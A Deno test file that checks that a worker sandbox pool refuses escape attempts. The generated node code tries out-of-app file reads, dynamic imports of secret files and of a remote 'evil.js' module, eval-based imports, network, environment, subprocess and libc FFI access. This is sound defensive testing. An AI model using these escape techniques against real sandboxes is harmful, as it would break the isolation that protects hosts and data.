// Sandbox escape attempts in every position of a shared worker: the first
// node of a fresh worker, a later node of a warm one, and the node after a
// failed neighbour. Every attempt is refused in every position, including
// `import()` of files and URLs the node was not granted (a Worker's module
// loading is checked against its process's permissions, which is why
// nodes run in sandbox processes).

import assert from "node:assert/strict";
import { join } from "node:path";
import { graphYml, makeApp, readTable, runOnce } from "./_helpers.ts";
import { loadGraph } from "../core/graph/load.ts";
import { SandboxPool } from "../core/sandbox/pool.ts";

/** Node code that tries each escape and writes one row per attempt. */
function attempts(secretDir: string, port: number, out: string): string {
  return `export default async (ctx) => {
    const tries = {
      readOutside: () => Deno.readTextFile(${
    JSON.stringify(join(secretDir, "secret.txt"))
  }),
      readStore: () => Deno.readFile(".runnel/runnel.db"),
      readUngranted: () => Deno.readTextFile(new URL("./data.csv", import.meta.url)),
      // Specifiers built at run time, which no scan of the source can see.
      importJs: () => import(${
    JSON.stringify(`file://${secretDir}`)
  } + "/secret.js"),
      importJson: () => import(${
    JSON.stringify(`file://${secretDir}`)
  } + "/secret.json", { with: { type: "json" } }),
      importRemote: () => import("http://127.0.0.1:" + ${port} + "/evil.js"),
      importEval: () => (0, eval)("import(" + JSON.stringify(${
    JSON.stringify(`file://${join(secretDir, "secret.js")}`)
  }) + ")"),
      write: () => Deno.writeTextFile(${
    JSON.stringify(join(secretDir, "written.txt"))
  }, "x"),
      net: () => fetch("http://127.0.0.1:${port}/fetch"),
      env: () => Deno.env.get("HOME"),
      run: () => new Deno.Command("true").output(),
      sys: () => Deno.hostname(),
      ffi: () => Deno.dlopen("libc.so.6", {}),
      undeclaredTable: () => ctx.table("secret").read(),
    };
    const rows = [];
    for (const [what, f] of Object.entries(tries)) {
      let outcome = "allowed";
      try {
        const v = await f();
        if (v && typeof v === "object" && "s" in v) outcome = "allowed: " + v.s;
      } catch (e) {
        outcome = "refused";
      }
      rows.push({ what, outcome, pid: Deno.pid });
    }
    await ctx.table("${out}", "w").replace(rows);
  };`;
}

Deno.test("warm workers: escape attempts fail as a first node, a later node and after a failed neighbour", async () => {
  const secretDir = await Deno.makeTempDir({ prefix: "runnel_secret_" });
  await Deno.writeTextFile(join(secretDir, "secret.txt"), "classified");
  await Deno.writeTextFile(
    join(secretDir, "secret.js"),
    `export const s = "classified";`,
  );
  await Deno.writeTextFile(
    join(secretDir, "secret.json"),
    `{ "s": "classified" }`,
  );
  let requests = 0;
  const ac = new AbortController();
  const server = Deno.serve(
    { port: 0, hostname: "127.0.0.1", signal: ac.signal, onListen() {} },
    () => {
      requests++;
      return new Response(`export const s = "fetched";`, {
        headers: { "content-type": "text/javascript" },
      });
    },
  );
  const port = server.addr.port;
  try {
    const dir = await makeApp({
      "graph.yml": graphYml([
        { file: "secret.ts", outputs: ["secret"] },
        { file: "plain.ts", outputs: ["plain"] },
        { file: "later.ts", outputs: ["later"] },
        { file: "first.ts", outputs: ["first"] },
        { file: "fails.ts", outputs: ["fails"] },
        { file: "after.ts", outputs: ["after"] },
      ]),
      "data.csv": "a\n1\n",
      "secret.ts":
        `export default async (ctx) => ctx.table("secret", "w").replace([{ v: "classified" }]);`,
      "plain.ts":
        `export default async (ctx) => ctx.table("plain", "w").replace([{ pid: Deno.pid }]);`,
      "later.ts": attempts(secretDir, port, "later"),
      "first.ts": attempts(secretDir, port, "first"),
      "fails.ts":
        `export default async (ctx) => { await ctx.table("fails", "w").replace([{ pid: Deno.pid }]); throw new Error("on purpose"); };`,
      "after.ts": attempts(secretDir, port, "after"),
    });
    const graph = await loadGraph(dir);
    const pool = new SandboxPool(graph, { capacity: 1 });
    try {
      const r = await runOnce(dir, { pool, concurrency: 1 });
      const status = Object.fromEntries(r.nodes.map((n) => [n.id, n.status]));
      assert.deepEqual(status, {
        secret: "succeeded",
        plain: "succeeded",
        later: "succeeded",
        first: "succeeded",
        fails: "failed",
        after: "succeeded",
      });
      const plain = (await readTable(dir, "plain"))[0]!.pid;
      const later = await readTable(dir, "later");
      const first = await readTable(dir, "first");
      const after = await readTable(dir, "after");
      // The positions are what they claim to be.
      assert.equal(later[0]!.pid, plain, "later ran in plain's warm worker");
      assert.notEqual(first[0]!.pid, later[0]!.pid, "first got a fresh worker");
      assert.notEqual(after[0]!.pid, first[0]!.pid);
      for (const [where, rows] of Object.entries({ later, first, after })) {
        assert.equal(rows.length, 14, where);
        for (const row of rows) {
          assert.equal(row.outcome, "refused", `${where}: ${row.what}`);
        }
      }
      assert.equal(requests, 0, "no request reached the server");
      await assert.rejects(Deno.stat(join(secretDir, "written.txt")));
    } finally {
      pool.close();
    }
  } finally {
    ac.abort();
    await server.finished;
    await Deno.remove(secretDir, { recursive: true });
  }
});

Deno.test("sandbox: a node that imports a file outside its app is refused before it runs", async () => {
  const secretDir = await Deno.makeTempDir({ prefix: "runnel_secret_" });
  const secret = join(secretDir, "secret.js");
  await Deno.writeTextFile(secret, `export const s = "classified";`);
  try {
    // A literal import would make the file part of the node's module graph,
    // and so readable: the loader refuses it, naming the file.
    const dir = await makeApp({
      "graph.yml": graphYml([
        { file: "probe.ts", outputs: ["out"] },
        { file: "store.ts", outputs: ["s"] },
      ]),
      "probe.ts": `export default async () => {
        try { await import(${JSON.stringify(secret)}); } catch { /* */ }
        return Deno.readTextFile(${JSON.stringify(secret)});
      };`,
      "store.ts": `export default async () => {
        try { await import("./.runnel/runnel.db"); } catch { /* */ }
      };`,
    });
    const r = await runOnce(dir);
    const probe = r.nodes.find((n) => n.id === "probe")!;
    assert.equal(probe.status, "failed");
    assert.match(
      probe.error!,
      /imports .*secret\.js, which is outside the app folder/,
    );
    const store = r.nodes.find((n) => n.id === "store")!;
    assert.equal(store.status, "failed");
    assert.match(store.error!, /inside \.runnel\//);
  } finally {
    await Deno.remove(secretDir, { recursive: true });
  }
});
